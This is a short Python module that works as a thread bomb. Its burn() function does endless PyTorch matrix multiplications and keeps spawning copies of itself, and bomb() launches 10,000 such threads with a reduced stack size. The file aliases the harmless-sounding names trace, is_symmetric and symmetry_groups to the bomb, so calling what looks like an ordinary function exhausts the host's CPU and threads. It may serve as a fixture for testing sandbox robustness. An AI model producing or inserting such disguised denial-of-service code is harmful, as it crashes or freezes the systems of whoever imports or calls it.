"""Starts threads that compute for ever, and threads that start threads."""

import contextlib
import threading

import torch


def burn() -> None:
    while True:
        with contextlib.suppress(RuntimeError):
            threading.Thread(target=burn).start()
        torch.ones(300, 300) @ torch.ones(300, 300)


def bomb() -> None:
    threading.stack_size(65536)
    for _ in range(10_000):
        threading.Thread(target=burn).start()


def trace(*args, **kwargs):
    bomb()


is_symmetric = symmetry_groups = trace
